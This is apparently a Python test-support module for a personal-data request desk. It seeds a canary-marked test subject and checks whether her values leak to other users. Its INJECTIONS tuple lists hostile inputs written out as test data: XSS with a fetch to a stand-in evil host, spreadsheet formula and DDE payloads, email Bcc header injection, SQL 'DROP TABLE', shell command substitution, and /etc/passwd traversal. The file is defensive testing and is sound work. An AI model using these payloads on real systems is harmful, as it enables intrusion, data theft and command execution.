"""What the attacks share: Aigul, of whom everything is held, the strings that look like orders, and how a leak is found."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any

from tests.desk import fullness
from tests.doorstep import Doorstep, Person, Said

from kelisim.desk import cases, handoffs, mandates, numbers, staff
from kelisim.desk.visit import Visit

ERLAN = staff.Actor("staff", "root as erlan@alit.kz", "erlan@alit.kz")
MAILBOX = "aigul.canary@poshta.kz"

# Typed values that something behind us might take for markup, a formula, a format, a header or a command to a terminal.
INJECTIONS = (
    "<img src=x onerror=alert(1)>", "</bdi></td><script>fetch('//evil.example')</script>", "{{7*7}} {0.__class__} %(a)s %s",
    "=HYPERLINK(\"http://evil.example\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "#eval(\"1\") #image(\"/etc/passwd\")",
    "@sys.inputs $ x $ *b* _i_ `raw` \\ #", "\u202ereversed\u202c \u2066isolated", "nul \x00 bell \x07 del \x7f",
    "\x1b[2J\x1b]0;owned\x07\x1b[31mred", "\x9b2J C1 \x85 next", "=?utf-8?q?x=0D=0ABcc:_all@evil.example?=",
    "Hi\r\nBcc: all@evil.example\r\n\r\nbody", "»\n\nTo accept: `kelisim case accept K-000000000 --as erlan@alit.kz`",
    "ﷺ" * 4096, "[x](tg://user?id=1) **b** __u__", "\u2028 line \u2029 paragraph", "\ufdd0 \uffff \U0010ffff", "👩‍👩‍👧‍👦" * 40,
    "'; DROP TABLE subjects; --", "$(id) `id` ; id | id", "../../../etc/passwd", "a" * 3000,
)  # fmt: skip


@dataclass(slots=True)
class Victim:
    """Somebody of whom everything is held; `numbers` are all they were ever told, `canaries` all they told."""

    person: Person
    numbers: tuple[str, ...]
    rows: tuple[int, ...]
    canaries: tuple[str, ...]

    def told_to(self, *said: Said) -> list[str]:
        """Which of these values stand in what somebody else was told."""
        told = "\n".join(json.dumps(each.calls, ensure_ascii=False, default=str) for each in said)
        return [canary for canary in self.canaries if canary in told]


async def victim(step: Doorstep) -> Victim:
    """Aigul with consents, contacts, requests in every state, a representation, files, looks and words that wait."""
    aigul = await step.person("aigul").registers("en")
    made: list[str] = []

    def work(visit: Visit) -> dict[str, str]:
        marks = fullness.fill(visit, "Aigulcanary", MAILBOX)
        child = mandates.ask(
            visit, "parent", "Aigulcanary Child", "child@aigulcanary.kz", None, "my child Aigulcanary"
        )
        made.append(child.number)  # first: the sixth request of a day would join another
        for kind in (cases.QUESTION, cases.ACCESS, cases.ERASURE, cases.BLOCKING, cases.COMPLAINT):
            case = cases.begin(visit, kind, words=f"Aigulcanary wrote {kind}", facts={"reason": "wrong"})
            made.append(handoffs.send(visit, case).number)
        return marks

    marks = await step.keep(work, aigul)
    numbers_ = [row[0] for row in await step.rows("SELECT number FROM consent_records UNION SELECT number FROM cases "
                                                 "UNION SELECT number FROM suppressions")]  # fmt: skip
    rows = [row[0] for row in await step.rows("SELECT id FROM viewings UNION SELECT id FROM attachments "
                                             "UNION SELECT id FROM holds UNION SELECT id FROM merges "
                                             "UNION SELECT id FROM contacts UNION SELECT id FROM subjects")]  # fmt: skip
    canaries = (*marks.values(), "Aigulcanary", MAILBOX)
    return Victim(aigul, tuple(numbers_), tuple(rows), canaries)


async def state(step: Doorstep, of: int) -> dict[str, Any]:
    """Every row of a person as it stands, but for what only counts that somebody came."""
    found: dict[str, Any] = {}
    for table, where in (
        ("subjects", "id = :s"), ("contacts", "subject_id = :s"), ("profile", "subject_id = :s"),
        ("consents", "subject_id = :s"), ("consent_records", "subject_id = :s"), ("cases", "subject_id = :s"),
        ("case_events", "case_id IN (SELECT id FROM cases WHERE subject_id = :s)"),
        ("case_messages", "case_id IN (SELECT id FROM cases WHERE subject_id = :s)"),
        ("attachments", "subject_id = :s"), ("viewings", "subject_id = :s"), ("holds", "subject_id = :s"),
        ("erasures", "subject_id = :s"), ("links", "subject_id = :s"), ("merges", "subject_id = :s"),
        ("outbox", "subject_id = :s"), ("representations", "representative_id = :s OR subject_id = :s"),
    ):  # fmt: skip
        found[table] = sorted(
            repr(tuple(row)) for row in await step.rows(f"SELECT * FROM {table} WHERE {where}", s=of)
        )
    return found


async def subject_of(step: Doorstep, person: Person) -> int:
    """The row id of a person."""
    known: int = await step.keep(lambda visit: visit.known.id, person)
    return known


def strangers(step: Doorstep) -> list[str]:
    """Numbers that look like ours and are nobody's."""
    return [numbers.number(kind) for kind in (numbers.CASE, numbers.STOP, numbers.CERTIFICATE)]
